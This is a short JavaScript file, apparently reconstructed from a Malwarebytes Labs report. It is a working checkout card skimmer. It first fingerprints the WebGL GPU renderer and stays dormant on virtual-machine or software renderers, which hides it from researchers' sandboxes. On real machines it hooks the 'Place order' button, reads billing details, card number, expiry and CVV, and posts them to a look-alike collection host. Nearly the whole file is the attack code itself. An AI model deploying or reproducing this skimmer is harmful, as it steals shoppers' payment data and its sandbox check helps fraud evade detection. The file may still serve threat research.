// webgl-vm-gate, written from Malwarebytes Labs (Jérôme Segura) on a skimmer that checks for
// virtual machines (2021): before it skims, the script asks WebGL for the unmasked renderer
// and stays silent when it names a software or virtual GPU (SwiftShader, llvmpipe,
// VirtualBox, VMware), as on researchers' sandboxes. On a real machine it reads the
// checkout's billing and card fields when "Place order" is clicked and posts them to a
// look-alike host.
(function () {
  function renderer() {
    try {
      var c = document.createElement("canvas");
      var gl = c.getContext("webgl") || c.getContext("experimental-webgl");
      if (!gl) return "none";
      var ext = gl.getExtension("WEBGL_debug_renderer_info");
      return ext ? String(gl.getParameter(ext.UNMASKED_RENDERER_WEBGL)) : "hidden";
    } catch (e) { return "err"; }
  }
  var r = renderer().toLowerCase();
  if (/swiftshader|llvmpipe|virtualbox|vmware|software|none/.test(r)) return;
  if (location.pathname.indexOf("checkout") < 0) return;
  var sent = false;
  function grab() {
    if (sent) return;
    var ids = ["billing:firstname", "billing:lastname", "billing:street1", "billing:city",
      "billing:postcode", "billing:telephone", "cc_number", "cc_exp_month", "cc_exp_year", "cc_cid"];
    var out = { h: location.hostname, gpu: r };
    ids.forEach(function (id) {
      var el = document.getElementById(id) || document.querySelector('[name*="' + id + '"]');
      if (el && el.value) out[id] = el.value;
    });
    if (!out.cc_number) return;
    sent = true;
    var x = new XMLHttpRequest();
    x.open("POST", "https://northwind-outfitters-cdn.invalid/analytics/collect", true);
    x.setRequestHeader("Content-Type", "application/json");
    x.send(JSON.stringify(out));
  }
  document.addEventListener("click", function (ev) {
    var t = ev.target;
    if (t && t.closest && t.closest("button.checkout, #onestepcheckout-place-order, .action.primary.checkout")) grab();
  }, true);
})();
